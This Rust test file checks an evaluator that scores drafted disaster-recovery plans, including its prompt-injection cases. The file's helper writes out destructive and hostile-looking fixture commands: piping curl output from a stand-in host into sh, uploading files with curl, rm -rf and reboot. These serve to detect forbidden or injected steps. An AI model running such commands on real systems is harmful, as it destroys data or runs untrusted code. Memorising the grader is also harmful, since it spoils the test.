//! Scenarios and predicates: each can be met, each fails without the step that meets it, and nothing is given for words.
#![allow(clippy::disallowed_methods, clippy::unwrap_used, clippy::panic)]

use std::collections::BTreeSet;

use blackstart::base::{Id, Risk};
use blackstart::check::{self, Checked, Facts};
use blackstart::draft::Library;
use blackstart::estimate::{Estimate, estimate};
use blackstart::eval::{
    self, Case, CommandPattern, Commands, Deed, Expectation, Judged, Part, Pattern, Proof, Score,
    Subject,
};
use blackstart::plan::{self, Phase, Plan, RecoveryPoint, Step, StepKind};
use blackstart::runtime::evaluating::{self, Drafter, Evaluated, Loaded};

fn scenarios() -> Vec<Loaded> {
    evaluating::scenarios(None).unwrap()
}

fn id(text: &str) -> Id {
    Id::parse(text).unwrap()
}

fn evaluated(drafter: Drafter<'_>) -> Vec<Evaluated> {
    let library = Library::new([]);
    scenarios().iter().map(|one| evaluating::evaluate(one, drafter, &library)).collect()
}

/// A plan with what belongs to it, so that it can be scored again after every change.
struct Answer<'a> {
    case: &'a Case,
    plan: Plan,
    estimate: Estimate,
}

impl<'a> Answer<'a> {
    /// A plan of these steps that names the expected recovery point.
    fn of(case: &'a Case, steps: Vec<Step>) -> Self {
        let mut plan = empty(case);
        plan.steps = steps;
        let estimate = estimate(&case.inventory, Some(&case.incident), Some(&plan));
        Self { case, plan, estimate }
    }

    fn checked(&self) -> Checked {
        check::plan(&self.plan, Some(&self.case.inventory), &Facts::default())
    }

    fn score(&self) -> Score {
        let checked = self.checked();
        let subject = Subject {
            plan: &self.plan,
            estimate: &self.estimate,
            checked: &checked,
            dry_run: None,
        };
        eval::score(&self.case.scenario, Some(&subject))
    }

    fn without(&self, steps: &[Id]) -> Self {
        let mut plan = self.plan.clone();
        plan.steps.retain(|step| !steps.contains(&step.id));
        for step in &mut plan.steps {
            step.needs.retain(|need| !steps.contains(need));
        }
        Self { case: self.case, plan, estimate: self.estimate.clone() }
    }
}

fn empty(case: &Case) -> Plan {
    let text = "schema: blackstart/plan/v1\nid: p\nkind: recovery\ntitle: A plan\nsteps: []\n";
    let mut plan = plan::read(text).0.unwrap();
    plan.recovery_point = case.scenario.recovery_point.as_ref().map(|point| RecoveryPoint {
        asset: point.asset.clone(),
        backup: point.backup.clone(),
        at: Some(point.at),
    });
    plan
}

fn bare_step(name: &str, kind: StepKind) -> Step {
    let text = "schema: blackstart/plan/v1\nid: p\nkind: recovery\ntitle: t\nsteps: [{id: a, title: Act, kind: manual}]\n";
    let mut step = plan::read(text).0.unwrap().steps.remove(0);
    step.id = id(name);
    step.kind = kind;
    step
}

/// The plainest step that is like a pattern, apart from its place in the order.
fn witness(name: &str, pattern: &Pattern) -> Step {
    let default = if pattern.runs.is_some() { StepKind::Command } else { StepKind::Manual };
    let mut step = bare_step(name, pattern.kind.first().copied().unwrap_or(default));
    step.phase = Some(pattern.phase.first().copied().unwrap_or(Phase::Recovery));
    step.host = pattern.host.first().cloned();
    step.asset = pattern.asset.first().cloned();
    if let Some(runs) = &pattern.runs {
        let text = command(runs);
        match runs.part.first() {
            Some(Part::Check) => step.check = Some(text),
            Some(Part::Rollback) => step.rollback = Some(text),
            Some(Part::Run) | None => step.run = Some(text),
        }
    }
    step
}

/// The plainest command that is like a pattern.
fn command(runs: &CommandPattern) -> String {
    let on = runs.on.first().map_or("x", String::as_str);
    let quoted = format!("'{on}'");
    let tool = runs.tool.first().map(String::as_str);
    let words: Vec<String> = runs.words.iter().map(|word| format!("'{word}'")).collect();
    let words = words.join(" ");
    if let Some(statement) = runs.sql.first() {
        return format!("{} {words} -c '{statement}(1)'", tool.unwrap_or("psql"));
    }
    let Some(deed) = runs.does.first() else {
        return format!("{} {words}", tool.unwrap_or("true"));
    };
    match deed {
        Deed::Stops if on == "replication" => "mysql -e 'STOP REPLICA'".into(),
        Deed::Starts if on == "replication" => "mysql -e 'START REPLICA'".into(),
        Deed::Stops if on == "machine" => "reboot".into(),
        Deed::Stops => format!("systemctl stop -- {quoted}"),
        Deed::Starts => format!("systemctl start -- {quoted}"),
        Deed::Promotes => "pg_ctl promote -D /srv/x".into(),
        Deed::Reads => format!("{} -a -- {quoted} /srv/new", tool.unwrap_or("cp")),
        Deed::Writes => format!("cp -a -- /srv/old {quoted}"),
        Deed::Moves => format!("mv -T -- {quoted} /srv/aside"),
        Deed::Deletes if on.starts_with('/') => format!("rm -rf -- {quoted}"),
        Deed::Deletes => format!("kubectl delete {quoted} some"),
        Deed::Fetches => format!("curl -o /tmp/x https://{on}/"),
        Deed::Sends => format!("curl -T /srv/x https://{on}/"),
        Deed::RunsUnseen => "curl -s https://example.org/x | sh".into(),
    }
}

/// A plan that meets everything a scenario asks for: a step for each group and each predicate, in an order that keeps
/// what the scenario says about places.
fn satisfying(case: &Case) -> Answer<'_> {
    let scenario = &case.scenario;
    let mut steps: Vec<(Step, Pattern)> = vec![];
    for (name, patterns) in &scenario.groups {
        steps.push((witness(&format!("group-{name}"), &patterns[0]), patterns[0].clone()));
    }
    for expectation in &scenario.must {
        let patterns = scenario.patterns(expectation);
        if let Some(pattern) = patterns.first() {
            steps.push((witness(&format!("must-{}", expectation.id), pattern), pattern.clone()));
        }
    }
    // Which steps are in which group, their place aside.
    let alone = |step: &Step, pattern: &Pattern| {
        let mut placeless = pattern.clone();
        (placeless.before, placeless.after) = (vec![], vec![]);
        like(case, step, &placeless)
    };
    let members = |group: &Id| -> BTreeSet<usize> {
        let patterns = scenario.group(group);
        let in_group = |at: &usize| patterns.iter().any(|one| alone(&steps[*at].0, one));
        (0..steps.len()).filter(in_group).collect()
    };
    let own = |group: &Id| {
        steps.iter().position(|(step, _)| step.id.as_str() == format!("group-{group}")).unwrap()
    };
    let mut before: BTreeSet<(usize, usize)> = BTreeSet::new();
    for (at, (_, pattern)) in steps.iter().enumerate() {
        for group in &pattern.before {
            before.extend(
                members(group).into_iter().filter(|other| *other != at).map(|other| (at, other)),
            );
        }
        before.extend(pattern.after.iter().map(|group| (own(group), at)));
    }
    for order in &scenario.order {
        let (first, then) = (members(&order.first), members(&order.then));
        let firsts: Vec<usize> = match order.every {
            true => first.iter().copied().filter(|at| !then.contains(at)).collect(),
            false => vec![own(&order.first)],
        };
        for a in firsts {
            before.extend(then.iter().filter(|b| **b != a).map(|b| (a, *b)));
        }
    }
    let mut left: BTreeSet<usize> = (0..steps.len()).collect();
    let mut sorted = vec![];
    while !left.is_empty() {
        let free =
            |at: &&usize| !before.iter().any(|(a, b)| b == *at && left.contains(a) && a != b);
        let next = left.iter().filter(free).min_by_key(|at| (steps[**at].0.phase, **at)).copied();
        let next = next.unwrap_or_else(|| {
            let names: Vec<&str> = left.iter().map(|at| steps[*at].0.id.as_str()).collect();
            panic!("{}: no order can keep to the places of {names:?}", scenario.id)
        });
        left.remove(&next);
        sorted.push(steps[next].0.clone());
    }
    Answer::of(case, sorted)
}

/// Whether a step alone is like a pattern.
fn like(case: &Case, step: &Step, pattern: &Pattern) -> bool {
    let mut scenario = case.scenario.clone();
    scenario.must = vec![Expectation {
        id: id("one"),
        what: "it".into(),
        steps: vec![pattern.clone()],
        group: None,
        refuses: None,
        point: false,
    }];
    (scenario.must_not, scenario.order) = (vec![], vec![]);
    let case =
        Case { scenario, inventory: case.inventory.clone(), incident: case.incident.clone() };
    Answer::of(&case, vec![step.clone()]).score().must[0].met
}

#[track_caller]
fn all_met(name: &Id, what: &str, judged: &[Judged]) {
    let failed: Vec<String> = judged
        .iter()
        .filter(|one| !one.met)
        .map(|one| format!("{}: {}", one.id, one.why))
        .collect();
    assert!(failed.is_empty(), "{name}, {what}: {failed:#?}");
}

#[test]
fn there_are_eighteen_scenarios_and_three_are_told_in_chinese() {
    let all = scenarios();
    assert_eq!(all.len(), 18);
    let chinese = all.iter().filter(|one| {
        let text = one.case.incident.description.clone().unwrap_or_default();
        let han = text.chars().filter(|c| ('\u{4e00}'..='\u{9fff}').contains(c)).count();
        (one.case.scenario.language == "zh") && han > 30
    });
    assert_eq!(chinese.count(), 3);
    for one in &all {
        let scenario = &one.case.scenario;
        assert!(
            scenario.must.len() >= 5 && scenario.must_not.len() >= 2 && scenario.order.len() >= 2,
            "{}",
            scenario.id
        );
    }
}

#[test]
fn every_scenario_can_be_answered_in_full() {
    for loaded in scenarios() {
        let case = &loaded.case;
        let score = satisfying(case).score();
        all_met(&case.scenario.id, "must-have", &score.must);
        all_met(&case.scenario.id, "must-not", &score.must_not);
        all_met(&case.scenario.id, "order", &score.order);
        assert!(
            score.point.met && score.loss.met,
            "{}: {:?} {:?}",
            case.scenario.id,
            score.point,
            score.loss
        );
    }
}

#[test]
fn every_predicate_fails_on_a_plan_without_the_steps_that_meet_it() {
    let mut tried = 0;
    for loaded in scenarios() {
        let answer = satisfying(&loaded.case);
        let name = &loaded.case.scenario.id;
        for (at, judged) in answer.score().must.iter().enumerate() {
            let less = match judged.proof {
                Proof::Estimate => {
                    let mut less = answer.without(&[]);
                    less.estimate.refused.clear();
                    less
                }
                Proof::Command | Proof::Person => answer.without(&judged.steps),
                Proof::None => panic!("{name}: {} is met by nothing", judged.id),
            };
            assert!(
                !less.score().must[at].met,
                "{name}: {} is met without {:?}",
                judged.id,
                judged.steps
            );
            tried += 1;
        }
        for at in 0..answer.score().order.len() {
            let order = &loaded.case.scenario.order[at];
            for group in [&order.first, &order.then] {
                let members = members(&answer, group);
                let judged = &answer.without(&members).score().order[at];
                assert!(!judged.met, "{name}: {} is met without {members:?}", judged.id);
                tried += 1;
            }
        }
    }
    assert!(tried > 150, "{tried}");
}

/// The steps of a plan that are in a group.
fn members(answer: &Answer<'_>, group: &Id) -> Vec<Id> {
    let mut case = answer.case.clone();
    case.scenario.must = vec![Expectation {
        id: id("one"),
        what: "it".into(),
        steps: vec![],
        group: Some(group.clone()),
        refuses: None,
        point: false,
    }];
    let all = Answer { case: &case, plan: answer.plan.clone(), estimate: answer.estimate.clone() };
    all.score().must[0].steps.clone()
}

#[test]
fn what_comes_first_comes_first_or_the_order_is_not_kept() {
    for loaded in scenarios() {
        let scenario = &loaded.case.scenario;
        let full = satisfying(&loaded.case);
        for (at, order) in scenario.order.iter().enumerate() {
            // The steps of the two groups, and of those that their places depend on.
            let mut groups = vec![order.first.clone(), order.then.clone()];
            let mut looked = 0;
            while looked < groups.len() {
                let rests = scenario.group(&groups[looked]).first().unwrap();
                groups.extend(rests.before.iter().chain(&rests.after).cloned());
                looked += 1;
            }
            let named =
                |step: &Step| groups.iter().any(|one| step.id.as_str() == format!("group-{one}"));
            let steps: Vec<Step> =
                full.plan.steps.iter().filter(|step| named(step)).cloned().collect();
            let mut few = Answer::of(&loaded.case, steps);
            assert!(few.score().order[at].met, "{}: {:?}", scenario.id, few.score().order[at]);
            let last = few
                .plan
                .steps
                .iter()
                .position(|step| step.id.as_str() == format!("group-{}", order.then));
            let moved = few.plan.steps.remove(last.unwrap());
            few.plan.steps.insert(0, moved);
            assert!(!few.score().order[at].met, "{}: {:?}", scenario.id, few.score().order[at]);
        }
    }
}

#[test]
fn whatever_must_not_be_done_is_seen_when_it_is_done() {
    for loaded in scenarios() {
        let scenario = &loaded.case.scenario;
        for (at, expectation) in scenario.must_not.iter().enumerate() {
            for (number, pattern) in scenario.patterns(expectation).iter().enumerate() {
                let bad = witness("bad", pattern);
                let mut answer = satisfying(&loaded.case);
                let place = if pattern.after.is_empty() { 0 } else { answer.plan.steps.len() };
                answer.plan.steps.insert(place, bad);
                let judged = &answer.score().must_not[at];
                assert!(!judged.met, "{}: {} ({number}) is not seen", scenario.id, expectation.id);
            }
        }
    }
}

#[test]
fn nobody_and_an_empty_plan_score_nothing() {
    let nothing = |score: &Score| {
        let judged = [&score.must, &score.must_not, &score.order];
        assert!(!score.point.met && !score.loss.met, "{}", score.scenario);
        assert!(score.time.as_ref().is_none_or(|time| !time.met), "{}", score.scenario);
        assert!(judged.into_iter().flatten().all(|one| !one.met), "{}", score.scenario);
    };
    for loaded in scenarios() {
        nothing(&eval::score(&loaded.case.scenario, None));
        nothing(&Answer::of(&loaded.case, vec![]).score());
    }
    for one in evaluated(Drafter::Null) {
        nothing(&one.score);
        assert!(!one.score.drafted);
    }
}

#[test]
fn a_plan_that_only_says_the_right_words_scores_nothing_for_them() {
    for loaded in scenarios() {
        let scenario = &loaded.case.scenario;
        for kind in [StepKind::Manual, StepKind::Command] {
            let steps = scenario.must.iter().enumerate().map(|(at, expectation)| {
                let mut step = bare_step(&format!("s{at}"), kind);
                step.title = expectation.what.clone();
                step.why = Some(format!("{expectation:?}"));
                step.expect = Some(format!("{:?}", scenario.patterns(expectation)));
                if kind == StepKind::Command {
                    step.run = Some(format!(
                        "echo '{}'\n# systemctl stop puma\n",
                        expectation.what.replace('\'', "")
                    ));
                }
                step
            });
            let mut answer = Answer::of(&loaded.case, steps.collect());
            // What the estimate refuses is not the plan's own doing.
            answer.estimate.refused.clear();
            let score = answer.score();
            let met: Vec<&Judged> =
                score.must.iter().chain(&score.order).filter(|one| one.met).collect();
            assert!(met.is_empty(), "{}: {met:?}", scenario.id);
        }
    }
}

#[test]
fn one_step_of_a_person_counts_once() {
    let all = scenarios();
    let case = &all.iter().find(|one| one.case.scenario.id.as_str() == "s05").unwrap().case;
    let pattern =
        &case.scenario.must.iter().find(|one| one.id.as_str() == "logins-listed").unwrap().steps[0];
    let score = |copies: usize| {
        let steps = (0..copies).map(|at| witness(&format!("s{at}"), pattern)).collect();
        Answer::of(case, steps).score().must.iter().filter(|one| one.met).count()
    };
    assert_eq!((score(1), score(2)), (1, 2));
}

#[test]
fn points_and_losses_of_the_runbooks_are_exact_in_every_scenario() {
    for one in evaluated(Drafter::Template) {
        let score = &one.score;
        assert!(score.point.met, "{}: {:?}", score.scenario, score.point);
        assert!(score.loss.met, "{}: {:?}", score.scenario, score.loss);
    }
}

#[test]
fn what_must_not_be_done_is_in_no_plan_of_the_runbooks() {
    for one in evaluated(Drafter::Template) {
        all_met(&one.score.scenario, "must-not", &one.score.must_not);
    }
}

#[test]
fn the_time_the_data_takes_is_exact_wherever_data_is_restored() {
    let mut compared = 0;
    for loaded in scenarios() {
        let Case { scenario, inventory, incident } = &loaded.case;
        let (Some(point), Some(time)) = (&scenario.recovery_point, &scenario.time) else {
            continue;
        };
        let estimate = estimate(inventory, Some(incident), None);
        let chain =
            &estimate.recovery_points.iter().find(|one| one.asset == point.asset).unwrap().chain;
        let name = format!("restore {}", chain[0]);
        let term = estimate.terms.iter().find(|term| term.name == name).unwrap();
        assert_eq!(
            (term.value.unwrap() / 60.0).ceil() * 60.0,
            time.data.0 as f64,
            "{}",
            scenario.id
        );
        compared += 1;
    }
    assert_eq!(compared, 11);
}

#[test]
fn a_wrong_point_a_wrong_loss_and_a_missing_refusal_are_seen() {
    let all = scenarios();
    let case = &all.iter().find(|one| one.case.scenario.id.as_str() == "s01").unwrap().case;
    let answer = satisfying(case);
    let mut wrong = answer.without(&[]);
    wrong.plan.recovery_point.as_mut().unwrap().backup = id("dump-nightly");
    assert!(!wrong.score().point.met && wrong.score().loss.met);
    let mut wrong = answer.without(&[]);
    wrong.estimate.recovery_points[0].loss_seconds = Some(0);
    assert!(wrong.score().point.met && !wrong.score().loss.met);
    let mut wrong = answer.without(&[]);
    wrong.estimate.refused.clear();
    let failed: Vec<String> =
        wrong.score().must.iter().filter(|one| !one.met).map(|one| one.id.clone()).collect();
    assert_eq!(failed, ["dump-refused"]);
}

#[test]
fn a_predicate_that_proves_nothing_is_refused_with_its_place() {
    let texts = eval::embedded_scenarios().into_iter().find(|one| one.name == "s01").unwrap();
    let problems = |old: &str, new: &str| -> Vec<String> {
        assert!(texts.expect.contains(old), "{old}");
        let expect = texts.expect.replacen(old, new, 1);
        match eval::case(&expect, &texts.inventory, &texts.incident) {
            Ok(_) => vec![],
            Err(problems) => problems.into_iter().map(|(_, problem)| problem.message).collect(),
        }
    };
    assert_eq!(problems("schema: ", "schema: "), Vec::<String>::new());
    let person = problems(
        "{kind: [manual, command], phase: [reconstitution], asset: [orders-standby]}",
        "{kind: [manual]}",
    );
    assert!(person[0].contains("name all three"), "{person:?}");
    let on = problems("{does: [stops], on: [puma]}", "{on: [puma]}");
    assert!(on[0].contains("\"on\" needs \"does\""), "{on:?}");
    assert_eq!(
        problems("host: [web1, web2, web3, web4]", "host: [web9]"),
        ["there is no host web9 in the inventory"]
    );
    assert_eq!(problems("then: open", "then: opened"), ["there is no group opened"]);
    assert_eq!(
        problems("refuses: dump-nightly", "refuses: dump"),
        ["there is no backup dump in the inventory"]
    );
    assert_eq!(
        problems("does: [stops]", "does: [stop]")[0],
        "\"does\": \"stop\"".replace("\"does\": ", "an item of \"does\" cannot be ")
    );
}

#[test]
fn every_injection_ends_safe_with_the_runbooks() {
    let (all, library) = (scenarios(), Library::new([]));
    let injections = evaluating::injections().unwrap();
    assert_eq!(injections.len(), 34);
    for injection in injections {
        let loaded = all.iter().find(|one| one.case.scenario.id == injection.scenario).unwrap();
        let judged = evaluating::attack(&injection, loaded, Drafter::Template, &library);
        assert!(judged.ending.is_safe(), "{}: {judged:?}", injection.id);
    }
}

#[test]
fn a_plan_that_obeys_is_seen() {
    let all = scenarios();
    for injection in evaluating::injections().unwrap() {
        let Some(never) = injection.never.first() else { continue };
        let loaded = all.iter().find(|one| one.case.scenario.id == injection.scenario).unwrap();
        let clean = satisfying(&loaded.case);
        let mut obeying = clean.without(&[]);
        let mut step = bare_step("obeys", StepKind::Command);
        step.run = Some(command(never));
        obeying.plan.steps.push(step);
        let judged = eval::judge_plan(
            &injection,
            &clean.plan,
            Commands::Fixed,
            &obeying.plan,
            &obeying.checked(),
        );
        assert!(!judged.ending.is_safe(), "{}: {judged:?}", injection.id);
    }
    let injections = evaluating::injections().unwrap();
    let told = injections.iter().find(|one| one.id.as_str() == "inj-02").unwrap();
    let loaded = all.iter().find(|one| one.case.scenario.id == told.scenario).unwrap();
    let clean = satisfying(&loaded.case);
    let mut lowered = clean.without(&[]);
    let harmful = lowered.plan.steps.iter_mut().find(|step| step.run.is_some()).unwrap();
    harmful.risk = Some(Risk::Read);
    let judged =
        eval::judge_plan(told, &clean.plan, Commands::Fixed, &lowered.plan, &lowered.checked());
    assert!(judged.why.contains("claims less harm"), "{judged:?}");
}
